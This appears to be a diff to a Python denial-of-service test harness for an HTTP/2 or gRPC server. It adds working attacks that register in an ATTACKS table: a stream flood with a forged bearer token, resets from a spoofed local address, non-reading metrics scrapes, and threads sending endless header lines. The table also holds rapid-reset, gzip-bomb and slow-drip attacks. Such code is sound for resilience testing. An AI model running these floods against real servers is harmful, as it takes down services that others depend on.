@@ -125,6 +125,23 @@ def resets_and_leave_2240(target):
     reset_and_leave(target, 2240)
 
 
+def resets_beside(target):
+    """The same with 200 calls, from the address that the victim has too, without a token."""
+    identity.clear()
+    target.source = "127.0.0.1"
+    reset_and_leave(target, 200)
+
+
+@again
+def wrong_tokens(target):
+    """Calls with a token that nobody has, one after the other and on one connection after the other."""
+    identity[:] = [(b"authorization", b"Bearer " + b"0" * 64)]
+    connection = target.dial()
+    for stream in range(1, 20001, 2):
+        connection.send(frame(HEADERS, END_HEADERS, stream, headers()) + in_frames(stream, TRANSPOSE_MESSAGE))
+    connection.close()
+
+
 @again
 def made_resets(target):
     """Calls that the server has to reset itself: a window update of zero for each (CVE-2025-8671)."""
@@ -347,11 +364,44 @@ def metrics_clients(target):
     hold(target, 200, lambda target: Bare(target, b"GET /metrics HTTP/1.1\r\n"), lambda connection: connection.send(b"X"))
 
 
+def scrapes(target):
+    """Clients of the metrics port that ask for all metrics and read nothing, as fast as they can be made."""
+    ask = b"GET /metrics HTTP/1.1\r\nHost: x\r\n" + b"".join(
+        name.title() + b": " + value + b"\r\n" for name, value in identity) + b"\r\n"
+    kept = []
+    while True:
+        try:
+            kept.append(Bare(target, ask))
+        except (Cut, OSError):
+            target.count(cuts=1)
+            time.sleep(0.001)
+        if len(kept) > 100:
+            kept.pop(0).close()
+
+
+def endless_requests(target):
+    """Clients of the metrics port whose requests do not come to an end."""
+    def loop():
+        while True:
+            try:
+                connection = Bare(target, b"GET /healthz HTTP/1.1\r\n")
+                while True:
+                    connection.send(b"X: " + b"a" * 60000 + b"\r\n")
+            except (Cut, OSError):
+                target.count(cuts=1)
+                time.sleep(0.001)
+    threads = [threading.Thread(target=loop, daemon=True) for _ in range(8)]
+    for thread in threads:
+        thread.start()
+    threads[0].join()
+
+
 ATTACKS = {attack.__name__: attack for attack in (
-    continuations, tiny_fields, huge_string, indexed_fields, resets, resets_and_leave_30, resets_and_leave_200, resets_and_leave_900,
-    resets_and_leave_2240, made_resets, pings, settings, priorities,
-    unknown_frames, window_updates, empty_data, garbage, gzip_bombs, unbounded_calls, forged_lines, unread_results, dripping_windows,
-    dripping_messages, slow_headers, stalled_uploads, silent_connections, idle_connections, connect_and_leave, metrics_clients)}
+    continuations, tiny_fields, huge_string, indexed_fields, resets, resets_and_leave_30, resets_and_leave_200,
+    resets_and_leave_900, resets_and_leave_2240, resets_beside, wrong_tokens, made_resets, pings, settings, priorities,
+    unknown_frames, window_updates, empty_data, garbage, gzip_bombs, unbounded_calls, forged_lines, unread_results,
+    dripping_windows, dripping_messages, slow_headers, stalled_uploads, silent_connections, idle_connections,
+    connect_and_leave, metrics_clients, scrapes, endless_requests)}
 
 
 def main():
